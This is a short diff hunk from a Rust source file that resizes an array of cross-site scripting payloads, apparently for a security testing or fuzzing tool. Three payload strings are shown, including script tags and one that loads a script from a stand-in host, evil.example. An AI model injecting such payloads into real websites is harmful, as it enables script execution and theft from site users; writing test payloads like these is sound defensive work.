@@ -7,7 +7,7 @@ use crate::stage::Stage;
 use crate::story::{Words, tell};
 
 /// More than a hundred ways in: elements, attributes, addresses, encodings, templates, headers, reordering.
-pub(crate) const PAYLOADS: [&str; 112] = [
+pub(crate) const PAYLOADS: [&str; 110] = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<script\n>alert(1)</script\n>",
